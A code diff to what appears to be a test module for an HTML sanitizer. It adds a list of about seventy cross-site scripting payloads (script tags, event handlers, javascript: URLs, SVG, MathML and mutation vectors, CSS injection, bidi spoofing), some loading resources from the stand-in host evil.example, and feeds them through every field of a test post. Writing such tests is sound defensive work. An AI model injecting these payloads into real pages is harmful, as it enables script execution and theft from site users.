@@ -42,13 +42,95 @@ CASES = (
     f"\u202e\u2066<img\u0000 src=x onerror={HIT}>\u2069",
     f"{{{{ 7*7 }}}}{{% raw %}}</script><script>{HIT}</script>",
 )
+ATTACKS = (
+    # script
+    "<script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=//evil.example/x.js></script>",
+    "<script>alert(1)//",
+    "<<script>alert(1)//<</script>",
+    "<script/x>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "--><script>alert(1)</script>",
+    "<script type=module>alert(1)</script>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<template><script>alert(1)</script></template>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data='data:text/html,<script>alert(1)</script>'></object>",
+    "<embed src='data:text/html,<script>alert(1)</script>'>",
+    "<base href='//evil.example/'>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    # handlers
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror='alert(1)' alt=y>",
+    "<body onload=alert(1)>",
+    "<a href=https://x.example onclick=alert(1)>x</a>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<video src=x onloadstart=alert(1)></video>",
+    "<audio src=x onerror=alert(1)></audio>",
+    "<p onmouseover=alert(1)>x</p>",
+    "<input autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<select onfocus=alert(1) autofocus><option>x</select>",
+    '" onmouseover="alert(1)" x="',
+    "' onmouseover='alert(1)' x='",
+    '"><img src=x onerror=alert(1)>',
+    "<img/src=x/onerror=alert(1)>",
+    "<img src=x\nonerror\n=\nalert(1)>",
+    # addresses
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    "\x01javascript:alert(1)",
+    " javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    "<a href='java&#10;script:alert(1)'>x</a>",
+    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
+    "<form action=javascript:alert(1)><button>x</button></form>",
+    "<img src=javascript:alert(1)>",
+    "<a href='/logout'>x</a>",
+    # SVG and MathML
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml>",
+    "<math href=javascript:alert(1)>x</math>",
+    # CSS
+    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
+    "<p style='background:url(//evil.example/x);position:fixed;inset:0'>x</p>",
+    "<p style=behavior:url(x.htc)>x</p>",
+    # mutation
+    "<p><style><!--</style><img src=x onerror=alert(1)>--></style>",
+    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
+    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    "<img alt='`><img src=x onerror=alert(1)>'>",
+    # direction and names
+    "\u202egpj.exe\u202c",
+    "\u2066\u202eadmin\u2069",
+    "<a name=form_token></a><img id=main name=body>",
+    "{{ 7*7 }}{% raw %}",
+    "\x00<scr\x00ipt>alert(1)</script>",
+    "\ud800<img src=x onerror=alert(1)>",
+)
+"""Those of the application's tests."""
+EVERY = (*CASES, *(attack.replace("alert(1)", HIT) for attack in ATTACKS))
 SCHEMES = ("http:", "https:", "mailto:", "data:image/")
 
 
 def fill(folder: Path) -> Sample:
     """Return an archive in which each case stands in every field of a post."""
     sample = make(folder, posts=1)
-    for number, case in enumerate(CASES, 10):
+    for number, case in enumerate(EVERY, 10):
         post = entry(number).post
         source = entry(
             number,
